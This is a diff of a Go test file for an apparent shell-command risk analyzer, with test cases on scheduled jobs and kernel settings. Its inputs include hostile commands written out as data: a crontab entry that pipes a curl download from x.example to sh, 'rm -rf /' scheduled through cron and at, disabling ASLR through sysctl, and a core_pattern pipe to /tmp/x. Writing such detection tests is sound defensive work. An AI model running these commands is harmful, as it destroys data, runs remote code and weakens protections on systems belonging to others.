@@ -70,9 +70,9 @@ func TestVerbsRunningLater(t *testing.T) {
 		{"echo '* * * * * curl http://x.example/a | sh' | crontab -", "persist crontab; fetch http://x.example/a; run-remote http://x.example/a"},
 		{"(crontab -l; echo '@reboot rm -rf /') | crontab -", "persist crontab"},
 		{"crontab -e", "persist crontab"},
-		{"echo 'rm -rf /' | at now + 1 minute", "delete / wide; persist at now + 1 minute"},
+		{"echo 'rm -rf /' | at now + 1 minute", "persist at now + 1 minute; delete / wide"},
 		{"at -l", ""},
-		{"at -f job.sh midnight", "run /home/u/p/job.sh; persist at midnight ?"},
+		{"at -f job.sh midnight", "persist at midnight; run /home/u/p/job.sh ?"},
 		{"crontab <<< '* * * * * id'", "persist crontab"},
 		{"crontab -u bob -l", ""},
 		{"crontab -ir", "delete /var/spool/cron wide"},
@@ -83,7 +83,7 @@ func TestVerbsRunningLater(t *testing.T) {
 func TestVerbsKernelAndHistory(t *testing.T) {
 	checkVerbs(t, [][2]string{
 		{"swapoff -a", "stop swap"},
-		{"sysctl -w kernel.randomize_va_space=0", "disarm kernel.randomize_va_space=0"},
+		{"sysctl -w kernel.randomize_va_space=0", "disarm kernel.randomize_va_space=0; write /proc/sys/kernel/randomize_va_space"},
 		{"sysctl -w vm.swappiness=10", "write /proc/sys/vm/swappiness"},
 		{"sysctl kernel.hostname", ""},
 		{"sysctl -w kernel.core_pattern='|/tmp/x'", "persist kernel.core_pattern=|/tmp/x; run /tmp/x ?"},
